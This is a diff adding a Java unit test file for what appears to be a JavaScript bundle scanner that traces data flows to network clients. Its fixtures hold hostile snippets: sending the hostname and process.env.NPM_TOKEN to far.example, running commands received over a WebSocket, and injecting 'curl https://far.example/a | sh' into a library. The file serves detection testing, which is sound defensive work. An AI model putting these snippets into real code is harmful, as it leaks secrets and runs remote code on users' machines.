@@ -1,0 +1,83 @@
+package dev.vsxray.scanner.javascript.flow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+/** Clients of the network in a bundle are known by names that no minifier changes, and are what they are when required. */
+class BundledLibrariesTest {
+
+    private static final String WEB_SOCKET = """
+            class w extends Array {
+              constructor(t) { super(); this._readyState = 0; this._closeFrameReceived = !1; this._closeFrameSent = !1;
+                this._closeMessage = Buffer.alloc(0); this._receiver = null; this._sender = null; this.q = new Socket9(t); }
+              get readyState() { return this._readyState; }
+              setSocket(t, e, i) { const s = new R(i); this._sender = new S(t); this._receiver = s; this._readyState = w.OPEN; }
+              send(t) { if (this.readyState === w.CONNECTING) throw new Error('not open'); this._sender.queue(t); }
+              terminate() { if (this.readyState !== w.CLOSED) this._readyState = w.CLOSING; }
+            }
+            w.CONNECTING = 0; w.OPEN = 1; w.CLOSING = 2; w.CLOSED = 3;
+            """;
+
+    private static final String AXIOS = """
+            class a {
+              constructor(t) { this.defaults = t || {}; this.interceptors = { request: [], response: [] }; }
+              async request(t, e) { return await this._request(t, e); }
+              _request(t, e) { const { transitional: n } = t; if (n) check(n, { silentJSONParsing: 1, clarifyTimeoutError: 1 });
+                return this.interceptors.request.reduce((p, f) => p.then(f), unknownAdapter(t)); }
+              getUri(t) { return build(t.url, t.params); }
+            }
+            ['post', 'put'].forEach(m => { a.prototype[m] = function(url, data, config) {
+              return this.request(Object.assign({}, config, { method: m, url, data })); }; });
+            """;
+
+    @Test
+    void whatGoesThroughASocketIsSent() {
+        Analysis analysis = Analysis.of(WEB_SOCKET + """
+                const socket = new w('wss://far.example/in');
+                if (socket.readyState === w.OPEN) socket.send(require('os').hostname());
+                socket.on('message', text => require('child_process').exec(String(text)));
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-send")).isNotEmpty();
+        assertThat(analysis.flows("network-response", "process-command")).isNotEmpty();
+    }
+
+    @Test
+    void aDerivedSocketIsOneToo() {
+        Analysis analysis = Analysis.of(WEB_SOCKET + """
+                class Mine extends w { report() { this.send(process.env.NPM_TOKEN); } }
+                new Mine('wss://far.example/in').report();
+                """);
+
+        assertThat(analysis.flows("environment-secret", "network-send")).isNotEmpty();
+    }
+
+    @Test
+    void aClientKeepsTheAddressItWasMadeFor() {
+        Analysis analysis = Analysis.of(AXIOS + """
+                const client = new a({ baseURL: 'https://base.example' });
+                client.post('/v1', { key: process.env.NPM_TOKEN });
+                """);
+
+        assertThat(analysis.flows("environment-secret", "network-send"))
+                .anySatisfy(flow -> assertThat(flow.destinations()).contains("https://base.example"));
+    }
+
+    @Test
+    void whatWasAddedToALibraryRunsAllTheSame() {
+        Analysis analysis = Analysis.of(WEB_SOCKET.replace(
+                        "this.q = new Socket9(t);", "require('child_process').exec('curl https://far.example/a | sh');")
+                + "new w('wss://near.example');");
+
+        assertThat(analysis.callsOf("process-command")).isNotEmpty();
+    }
+
+    @Test
+    void aClassWithSomeOfTheNamesIsNone() {
+        Analysis analysis = Analysis.of(WEB_SOCKET.replace("_closeFrameSent", "_sentClose")
+                + "new w('wss://far.example/in').send(require('os').hostname());");
+
+        assertThat(analysis.flows("account-identity", "network-send")).isEmpty();
+    }
+}
